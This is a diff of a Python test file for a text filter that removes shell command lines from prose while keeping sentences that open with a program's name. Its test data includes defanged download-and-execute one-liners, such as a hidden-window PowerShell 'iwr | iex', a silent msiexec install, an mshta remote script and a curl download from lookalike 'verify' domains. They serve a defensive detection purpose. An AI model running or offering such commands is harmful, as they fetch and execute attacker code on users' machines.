@@ -48,9 +48,8 @@ def paragraphs(*texts: str) -> str:
         'powershell -w h -c "iwr hxxps://cdn-verify[.]com/s.ps1 | iex"',
         "curl -fsSL https://get.example.sh | sh",
         "cmd /c start msiexec /q /i hxxp://update-check[.]ru/a.msi",
-        "sudo apt-get install openssh-server",
+        "sudo curl -o /tmp/a.sh hxxps://cdn-verify[.]com/a.sh",
         "git clone https://github.com/example/exploit-poc",
-        "pip install requests==2.31.0",
         "mshta.exe hxxps://files-cdn[.]top/verify.hta",
     ],
 )
@@ -68,6 +67,9 @@ def test_a_command_line_between_the_paragraphs_leaves_the_text(command: str) -> 
         "PowerShell -w h is the switch that hides the window, Microsoft said.",
         "Powershell then downloads a script from a domain controlled by the attackers.",
         "pip install is the first step, the guide says.",
+        # A program's own word after it: a project's release post shows its reader the line.
+        "npm install tidepool@3.2",
+        "sudo apt-get install openssh-server",
     ],
 )
 def test_prose_opening_on_a_program_s_name_stays(line: str) -> None:
